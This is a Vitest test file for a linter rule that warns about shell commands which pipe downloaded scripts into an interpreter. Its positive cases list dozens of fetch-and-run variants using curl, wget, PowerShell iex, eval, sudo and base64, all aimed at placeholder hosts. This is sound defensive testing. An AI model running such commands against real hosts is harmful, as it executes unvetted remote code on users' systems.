import { describe, expect, it } from 'vitest';
import { startCpuClock } from '../../../test/setup/cpu-clock.ts';
import { lintPipedShell } from './lint-files.ts';

describe('a command that runs what it downloads', () => {
  it.each([
    'curl https://x.example | sh',
    'curl -fsSL https://x.example/install.sh | sudo -E bash -s -- --yes',
    'wget -qO- https://x.example |bash',
    'curl x | tee log | /bin/sh',
    'curl x \\\n  | sh',
    'curl x \\\r\n  | python3 -',
    'echo aGk= | base64 -d | sh',
    'bash <(curl -s https://x.example)',
    'source <(curl x)',
    '. <(curl x)',
    'sh -c "$(curl -fsSL https://x.example)"',
    'eval "$(wget -qO- x)"',
    "execSync('curl https://x.example | sh')",
    'irm https://x.example | iex',
    'iex (iwr https://x.example)',
    'curl x | xargs -n 1 sh -c',
    'curl x | nohup bash',
    'curl x | (bash)',
    'curl x | { bash; }',
    'curl x | "bash"',
    'python3 -c "$(curl x)"',
    'perl -e "$(curl x)"',
    'Invoke-Expression (iwr x)',
    'fetch -o - x | sh',
    'aria2c x | sh',
    'curl x | /usr/bin/env bash',
    'curl x | /usr/bin/sudo bash',
    'curl x | sudo -u root bash',
    'curl x | sudo -E env -i A=1 sh',
    'curl x | sudo FOO=1 bash',
    'curl x | env A=1 sh',
    'curl x | A="b c" D=\'e\' sh -',
    'curl x |& bash',
    'curl x | exec -a foo bash',
  ])('is found: %j', (command) => {
    expect(lintPipedShell(`First.\n${command}\nLast.\n`, 'a.md')).toMatchObject([
      { rule: 'capsule.piped_shell', severity: 'warning', where: 'a.md:2' },
    ]);
  });

  it.each([
    'curl -o file https://x.example',
    'curl https://x.example | jq .name',
    'curl x\n\n| sh | the shell |',
    'git log | head',
    'diff <(curl a) <(curl b)',
    'The shell pipes | shells.',
    'curl x | shuf | sort',
    'curl x | xargs ls',
    'curl x | xargs -n 1 ls\nbash test.sh',
    'curl x | sudo -u root tee file; bash test.sh',
    '| curl x | - with bash |',
    'curl x | tee run.sh',
    '| `fetch` | node |',
    'With python, use `curl`.',
  ])('is not %j', (command) => {
    expect(lintPipedShell(command, 'a.md')).toEqual([]);
  });

  it('is found in linear time, and bounded', () => {
    const cpuMs = startCpuClock();
    const wrapped = ['-1 ', '-E sudo ', '-x/env ', 'A=1 ', 'A=" ', '-a b '].map(
      (words) => `curl | curl |& sudo ${words.repeat(40)}`,
    );
    const texts = [
      'curl ',
      'curl |',
      'sh -c ',
      'source ',
      'iex (',
      'curl | xargs -1 ',
      'curl |A=" ',
    ];
    for (const text of [...texts, ...wrapped]) {
      expect(lintPipedShell(text.repeat(200_000 / text.length), 'a.md')).toEqual([]);
    }
    expect(cpuMs()).toBeLessThan(5_000);
    expect(lintPipedShell('curl x | sh\n'.repeat(100), 'a.md')).toHaveLength(5);
  });
});
